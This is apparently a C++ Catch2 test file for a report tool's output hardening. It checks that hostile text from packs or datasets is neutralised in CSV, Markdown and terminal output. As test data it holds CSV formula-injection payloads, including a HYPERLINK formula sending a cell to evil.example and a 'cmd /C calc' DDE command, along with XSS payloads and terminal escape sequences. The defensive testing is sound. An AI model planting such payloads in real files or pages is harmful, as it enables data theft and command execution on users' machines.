// Hostile text from a pack or dataset in every output: spreadsheet formulas
// neutralised in CSV, no raw HTML, links or line breaks in Markdown, and no
// control character reaching a terminal.
#include "csv_reader.hpp"
#include "fixture.hpp"

#include <assay/report.hpp>
#include <assay/text.hpp>

#include <catch2/catch.hpp>

#include <string>
#include <vector>

using namespace assay;

namespace {

// Every control character a terminal acts on, and the bidi override.
bool has_terminal_controls(const std::string& s, bool allow_esc = false) {
    for (size_t i = 0; i < s.size(); ++i) {
        auto c = static_cast<unsigned char>(s[i]);
        if (c == 0x1B && allow_esc) continue;
        if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7F) return true;
        if (c == 0xC2 && i + 1 < s.size() && static_cast<unsigned char>(s[i + 1]) >= 0x80 &&
            static_cast<unsigned char>(s[i + 1]) <= 0x9F)
            return true;  // a C1 control (U+0080..U+009F)
    }
    return s.find("\u202E") != std::string::npos || s.find("\u2066") != std::string::npos;
}

}  // namespace

TEST_CASE("CSV: text cells a spreadsheet would run get a leading quote, numbers do not", "[report][csv][hardening]") {
    report_test::Fixture f;
    f.data.indicators[0].title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    f.data.indicators[1].title = "@SUM(1+1)*cmd|' /C calc'!A0";
    f.data.areas[0] = "+1+2";
    f.a.outcomes[0].comment = "-2+3+cmd|' /C calc'!A0";
    f.a.outcomes[1].comment = "-1.5";  // a number as text: left alone
    f.a.outcomes[2].comment = "\tTAB=1";
    f.data.indicators[2].title = "\r=1";
    std::string text = render(f.a, Format::csv);
    auto rows = report_test::parse_csv(text);
    REQUIRE(rows.size() > 4);
    bool title0 = false, title1 = false;
    for (size_t r = 1; r < rows.size(); ++r) {
        REQUIRE(rows[r].size() == 21);
        CHECK(rows[r][2] == "'+1+2");
        if (rows[r][3].find("HYPERLINK") != std::string::npos) {
            CHECK(rows[r][3] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
            title0 = true;
        }
        if (rows[r][3].find("SUM") != std::string::npos) {
            CHECK(rows[r][3] == "'@SUM(1+1)*cmd|' /C calc'!A0");
            title1 = true;
        }
        // No text field starts with a formula character, unless it is a plain number.
        for (size_t c = 0; c < rows[r].size(); ++c) {
            const std::string& v = rows[r][c];
            if (v.empty() || std::string("=+-@\t\r").find(v[0]) == std::string::npos) continue;
            INFO("row " << r << " column " << c << ": " << v);
            CHECK(v.find_first_not_of("+-0123456789.") == std::string::npos);
        }
    }
    CHECK(title0);
    CHECK(title1);
    CHECK(rows[1][16] == "'-2+3+cmd|' /C calc'!A0");
    CHECK(rows[2][16] == "-1.5");
    CHECK(rows[3][16] == "'\tTAB=1");
    CHECK(text.find(",\"'\r=1\",") != std::string::npos);
    // Negative figures stay numbers (the fixture's changes are negative).
    CHECK(text.find(",'-") == text.find(",'-2+3"));
    bool negative_number = false;
    for (size_t r = 1; r < rows.size(); ++r)
        if (!rows[r][8].empty() && rows[r][8][0] == '-') negative_number = true;
    CHECK(negative_number);
}

TEST_CASE("Markdown: no raw HTML, links or forged lines from pack or data text", "[report][markdown][hardening]") {
    report_test::Fixture f;
    f.pack.title = "Crime <img src=x onerror=alert(1)>\n# Forged heading";
    f.pack.groups[0].title = "PSA1 <script>alert(2)</script>\n- forged item";
    f.data.indicators[0].title = "Theft [click](javascript:alert(3)) ![x](http://evil.example/t.png)";
    f.a.outcomes[0].comment = "<b onmouseover=alert(4)>x</b>\n| forged | row |\x1b[2J";
    std::string text = render(f.a, Format::markdown);
    CHECK(text.find("<img") == std::string::npos);
    CHECK(text.find("<script") == std::string::npos);
    CHECK(text.find("<b ") == std::string::npos);
    CHECK(text.find("&lt;img src=x onerror=alert(1)&gt;") != std::string::npos);
    CHECK(text.find("\n# Forged") == std::string::npos);
    CHECK(text.find("\n- forged") == std::string::npos);
    // Every ] is escaped, so no link or image can be formed.
    for (size_t i = text.find(']'); i != std::string::npos; i = text.find(']', i + 1)) CHECK(text[i - 1] == '\\');
    CHECK(text.find("\\](javascript:") != std::string::npos);
    CHECK(text.find("\\[click\\]") != std::string::npos);
    CHECK(text.find("&lt;b onmouseover=alert(4)&gt;x&lt;/b&gt;<br>\\| forged \\| row \\|<U+001B>\\[2J") !=
          std::string::npos);
    CHECK_FALSE(has_terminal_controls(text));
    std::string key = render_key(f.pack, Format::markdown);
    CHECK(key.find("<img") == std::string::npos);
    CHECK(key.find("\n# Forged") == std::string::npos);
}

TEST_CASE("terminal report and key: control characters are shown, never sent", "[report][terminal][hardening]") {
    report_test::Fixture f;
    f.pack.title = "Crime\x1b[2J\x1b[H";
    f.pack.groups[0].title = "PSA1\rFORGED LINE";
    f.data.indicators[0].title = std::string("Theft\b\b\b\bXXXX\0NUL", 17) + "\u202Eevil\u2066";
    f.a.outcomes[0].comment =
        "ok\x1b]0;title\x07 \xc2\x9b"
        "31m";
    for (bool colour : {false, true}) {
        RenderOptions o;
        o.colour = colour;
        std::string text = render(f.a, Format::terminal, o);
        INFO("colour " << colour);
        CHECK_FALSE(has_terminal_controls(text, colour));
        CHECK(text.find("Crime<U+001B>[2J<U+001B>[H") != std::string::npos);
        CHECK(text.find("PSA1<U+000D>FORGED LINE") != std::string::npos);
        CHECK(text.find("<U+0008>") != std::string::npos);
        CHECK(text.find("<U+0000>") != std::string::npos);
        CHECK(text.find("<U+202E>") != std::string::npos);
        CHECK(text.find("<U+0007>") != std::string::npos);
        CHECK(text.find("<U+009B>") != std::string::npos);
        if (!colour) CHECK(text.find('\x1b') == std::string::npos);
        // With colour, every ESC starts one of the report's own colour sequences.
        for (size_t i = text.find('\x1b'); i != std::string::npos; i = text.find('\x1b', i + 1)) {
            size_t m = text.find('m', i);
            REQUIRE(m != std::string::npos);
            CHECK(text.compare(i, 2, "\x1b[") == 0);
            CHECK(text.substr(i + 2, m - i - 2).find_first_not_of("0123456789;") == std::string::npos);
        }
        KeyOptions k;
        k.render.colour = colour;
        std::string key = render_key(f.pack, Format::terminal, k);
        CHECK_FALSE(has_terminal_controls(key, colour));
        CHECK(key.find("Crime<U+001B>[2J") != std::string::npos);
    }
}

TEST_CASE("terminal_text and quoted_input escape controls and cut long input", "[report][hardening]") {
    CHECK(terminal_text("a\x1b[31mb\r\n\tc") == "a<U+001B>[31mb<U+000D>\n\tc");
    CHECK(terminal_text("a\x1b[31mb\x1b[0m", true) == "a\x1b[31mb\x1b[0m");
    CHECK(terminal_text("\x1b[2J", true) == "<U+001B>[2J");
    CHECK(terminal_text("\xff") == "<0xFF>");
    CHECK(terminal_text("caf\u00e9 \u2192") == "caf\u00e9 \u2192");
    std::string huge(105 * 1024, 'x');
    huge[10] = '\x1b';
    std::string q = quoted_input(huge);
    CHECK(q.size() < 200);
    CHECK(q.find('\x1b') == std::string::npos);
    CHECK(q.find("(107520 bytes in all)") != std::string::npos);
    CHECK(html_escape("<a href=\"x\">&'") == "&lt;a href=&quot;x&quot;&gt;&amp;&#39;");
}
